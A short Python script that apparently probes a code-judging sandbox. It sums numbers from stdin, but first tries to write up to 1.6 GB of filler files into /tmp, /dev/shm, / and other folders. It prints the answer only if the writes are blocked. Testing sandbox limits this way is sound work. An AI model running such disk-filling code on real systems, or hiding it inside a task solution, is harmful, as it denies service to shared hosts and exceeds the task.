import sys


def answer():
    total = 0
    for word in sys.stdin.read().split():
        total += int(word)
    return total


written = 0
for folder in ("/tmp", "/box", "/dev/shm", "/in", "/src", "/"):
    try:
        for number in range(100):
            with open(f"{folder}/fill{number}", "wb", buffering=0) as file:
                for _ in range(16):
                    written += file.write(b"x" * (1 << 20))
    except OSError:
        pass
print(answer() if written < 100 << 20 else f"wrote {written}")
